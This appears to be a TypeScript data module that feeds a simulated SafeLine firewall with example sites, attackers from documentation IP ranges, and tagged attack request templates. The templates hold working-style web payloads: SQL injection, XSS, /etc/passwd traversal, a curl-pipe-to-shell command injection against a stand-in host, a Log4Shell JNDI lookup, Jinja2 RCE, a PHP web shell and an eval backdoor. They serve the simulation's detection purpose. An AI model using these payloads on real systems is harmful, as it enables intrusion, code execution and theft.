// What the simulated SafeLine protects and who attacks it: sites, listeners, attackers (from the
// documentation address ranges) and the attack requests they send, each with its module and rule.

export interface SimSite {
  readonly id: number
  readonly host: string
  readonly port: number
  readonly https: boolean
  /** Mean normal requests per second. */
  readonly baseRps: number
}

export const SITES: ReadonlyArray<SimSite> = [
  { id: 1, host: "shop.example.com", port: 443, https: true, baseRps: 38 },
  { id: 2, host: "api.example.com", port: 443, https: true, baseRps: 24 },
  { id: 3, host: "blog.example.com", port: 80, https: false, baseRps: 9 }
]

/** QPS listeners: one per port, as SafeLine's `/api/stat/qps` nodes key them. */
export const LISTENERS: ReadonlyArray<string> = [...new Set(SITES.map((s) => String(s.port)))]

export interface AttackTemplate {
  readonly attackType: number
  readonly module: string
  readonly ruleId: string
  readonly riskLevel: number
  readonly method: string
  readonly path: string
  readonly query: string
  readonly payload: string
  readonly reason: string
}

const t = (
  attackType: number,
  module: string,
  ruleId: string,
  riskLevel: number,
  method: string,
  path: string,
  query: string,
  payload: string,
  reason: string
): AttackTemplate => ({ attackType, module, ruleId, riskLevel, method, path, query, payload, reason })

/** Attack requests by family; an attacker sends requests of its families. */
export const ATTACKS = {
  sqli: [
    t(
      0,
      "m_sqli",
      "m_sqli_10023",
      3,
      "GET",
      "/products",
      "id=1'+OR+'1'='1",
      "1' OR '1'='1",
      "SQL injection: tautology"
    ),
    t(
      0,
      "m_sqli",
      "m_sqli_10031",
      3,
      "GET",
      "/search",
      "q=1+UNION+SELECT+username,password+FROM+users--",
      "1 UNION SELECT username,password FROM users--",
      "SQL injection: UNION SELECT"
    ),
    t(0, "m_sqli", "m_sqli_10047", 3, "POST", "/login", "", "username=admin'--&password=x", "SQL injection: comment"),
    t(
      0,
      "m_sqli",
      "m_sqli_10052",
      2,
      "GET",
      "/api/items",
      "sort=(SELECT+SLEEP(5))",
      "(SELECT SLEEP(5))",
      "SQL injection: time-based blind"
    )
  ],
  xss: [
    t(
      1,
      "m_xss",
      "m_xss_20011",
      2,
      "GET",
      "/search",
      "q=<script>alert(document.cookie)</script>",
      "<script>alert(document.cookie)</script>",
      "XSS: script tag"
    ),
    t(1, "m_xss", "m_xss_20019", 2, "POST", "/comments", "", "<img src=x onerror=alert(1)>", "XSS: event handler"),
    t(
      1,
      "m_xss",
      "m_xss_20024",
      2,
      "GET",
      "/redirect",
      "next=javascript:alert(1)",
      "javascript:alert(1)",
      "XSS: javascript URI"
    )
  ],
  traversal: [
    t(
      20,
      "m_file_include",
      "m_file_include_30002",
      3,
      "GET",
      "/download",
      "file=../../../../etc/passwd",
      "../../../../etc/passwd",
      "path traversal: /etc/passwd"
    ),
    t(
      20,
      "m_file_include",
      "m_file_include_30008",
      3,
      "GET",
      "/static/..%2f..%2f..%2fetc%2fshadow",
      "",
      "..%2f..%2f..%2fetc%2fshadow",
      "path traversal: encoded"
    ),
    t(
      20,
      "m_file_include",
      "m_file_include_30015",
      2,
      "GET",
      "/static/..;/WEB-INF/web.xml",
      "",
      "..;/WEB-INF/web.xml",
      "path traversal: WEB-INF"
    )
  ],
  command: [
    t(
      9,
      "m_cmd_injection",
      "m_cmd_injection_40003",
      3,
      "GET",
      "/tools/ping",
      "host=127.0.0.1;cat+/etc/passwd",
      "127.0.0.1;cat /etc/passwd",
      "command injection: separator"
    ),
    t(
      9,
      "m_cmd_injection",
      "m_cmd_injection_40011",
      3,
      "POST",
      "/api/diagnostics",
      "",
      "$(curl http://198.51.100.23/x.sh|sh)",
      "command injection: substitution"
    ),
    t(
      9,
      "m_cmd_injection",
      "m_cmd_injection_40020",
      3,
      "GET",
      "/cgi-bin/status",
      "",
      "User-Agent: () { :; }; /bin/bash -c 'id'",
      "command injection: Shellshock"
    )
  ],
  scanner: [
    t(
      21,
      "m_scanner",
      "m_scanner_50001",
      1,
      "GET",
      "/.env",
      "",
      "User-Agent: Mozilla/5.0 (compatible; Nuclei)",
      "scanner: sensitive file probe"
    ),
    t(
      21,
      "m_scanner",
      "m_scanner_50004",
      1,
      "GET",
      "/wp-login.php",
      "",
      "User-Agent: WPScan v3.8",
      "scanner: CMS fingerprint"
    ),
    t(
      21,
      "m_scanner",
      "m_scanner_50009",
      1,
      "GET",
      "/.git/config",
      "",
      "User-Agent: Nikto/2.5.0",
      "scanner: source disclosure probe"
    ),
    t(
      21,
      "m_scanner",
      "m_scanner_50013",
      1,
      "GET",
      "/actuator/env",
      "",
      "User-Agent: sqlmap/1.7.2#stable",
      "scanner: known tool"
    )
  ],
  ssrf: [
    t(
      3,
      "m_ssrf",
      "m_ssrf_60002",
      3,
      "GET",
      "/fetch",
      "url=http://169.254.169.254/latest/meta-data/iam/",
      "http://169.254.169.254/latest/meta-data/iam/",
      "SSRF: cloud metadata"
    ),
    t(
      3,
      "m_ssrf",
      "m_ssrf_60007",
      3,
      "POST",
      "/api/webhooks",
      "",
      "gopher://127.0.0.1:6379/_FLUSHALL",
      "SSRF: gopher to internal service"
    )
  ],
  codeExec: [
    t(
      7,
      "m_java",
      "m_java_70001",
      3,
      "GET",
      "/",
      "",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
      "X-Api-Version: ${jndi:ldap://198.51.100.23:1389/a}",
      "code execution: JNDI lookup"
    ),
    t(
      7,
      "m_java",
      "m_java_70006",
      3,
      "POST",
      "/struts2-showcase/upload.action",
      "",
      "%{(#_='multipart/form-data').(#cmd='id')}",
      "code execution: OGNL"
    )
  ],
  template: [
    t(29, "m_ssti", "m_ssti_80002", 3, "GET", "/greeting", "name={{7*7}}", "{{7*7}}", "SSTI: expression probe"),
    t(
      29,
      "m_ssti",
      "m_ssti_80005",
      3,
      "POST",
      "/render",
      "",
      "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      "SSTI: Jinja2 RCE"
    )
  ],
  deserialization: [
    t(
      6,
      "m_java_unserialize",
      "m_java_unserialize_90001",
      3,
      "POST",
      "/invoker/readonly",
      "",
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ",
      "deserialization: Java gadget chain"
    )
  ],
  upload: [
    t(
      10,
      "m_file_upload",
      "m_file_upload_11002",
      3,
      "POST",
      "/upload",
      "",
      'filename="shell.php" <?php system($_GET["c"]); ?>',
      "file upload: PHP web shell"
    )
  ],
  phpCode: [
    t(
      8,
      "m_php_code_injection",
      "m_php_code_injection_12001",
      3,
      "POST",
      "/index.php",
      "",
      "<?php eval($_POST['x']); ?>",
      "code injection: eval"
    )
  ]
} as const satisfies Record<string, ReadonlyArray<AttackTemplate>>

export type AttackFamily = keyof typeof ATTACKS

export interface Attacker {
  readonly ip: string
  readonly country: string
  readonly province: string
  readonly city: string
  readonly families: ReadonlyArray<AttackFamily>
  /** Mean attack requests per 5-second slice while active. */
  readonly intensity: number
  /** Probability of being active in a given 5-minute window. */
  readonly activity: number
}

export const ATTACKERS: ReadonlyArray<Attacker> = [
  {
    ip: "203.0.113.45",
    country: "CN",
    province: "Guangdong",
    city: "Shenzhen",
    families: ["sqli", "xss"],
    intensity: 1,
    activity: 0.5
  },
  {
    ip: "198.51.100.23",
    country: "RU",
    province: "Moscow",
    city: "Moscow",
    families: ["command", "codeExec", "deserialization"],
    intensity: 0.7,
    activity: 0.4
  },
  {
    ip: "203.0.113.77",
    country: "US",
    province: "Virginia",
    city: "Ashburn",
    families: ["scanner"],
    intensity: 2.5,
    activity: 0.35
  },
  {
    ip: "198.51.100.142",
    country: "BR",
    province: "Sao Paulo",
    city: "Sao Paulo",
    families: ["traversal", "sqli"],
    intensity: 0.6,
    activity: 0.4
  },
  {
    ip: "203.0.113.9",
    country: "NL",
    province: "North Holland",
    city: "Amsterdam",
    families: ["ssrf", "template"],
    intensity: 0.5,
    activity: 0.35
  },
  {
    ip: "198.51.100.7",
    country: "DE",
    province: "Hesse",
    city: "Frankfurt",
    families: ["xss", "upload", "phpCode"],
    intensity: 0.5,
    activity: 0.35
  },
  {
    ip: "203.0.113.201",
    country: "IN",
    province: "Maharashtra",
    city: "Mumbai",
    families: ["scanner", "traversal"],
    intensity: 1.2,
    activity: 0.3
  },
  {
    ip: "2001:db8:4f1::17",
    country: "KR",
    province: "Seoul",
    city: "Seoul",
    families: ["sqli", "command"],
    intensity: 0.5,
    activity: 0.3
  }
]

/**
 * A legitimate feature that trips a rule: many ordinary clients save rich-text articles whose HTML
 * looks like XSS to `m_xss` (the tuner's false-positive case).
 */
export const FALSE_POSITIVE = {
  template: t(
    1,
    "m_xss",
    "m_xss_20031",
    1,
    "POST",
    "/api/cms/articles",
    "",
    '<p>Spring sale <a href="/sale" onclick="track(\'banner\')">now</a></p>',
    "XSS: inline event handler"
  ),
  host: "shop.example.com",
  clients: Array.from({ length: 24 }, (_, i) => `192.0.2.${10 + i * 3}`),
  country: "US",
  /** Mean false-positive requests per slice. */
  rate: 0.1
}

/** How many distinct ordinary clients exist, for unique-IP and session counts. */
export const CLIENT_POOL = 1800
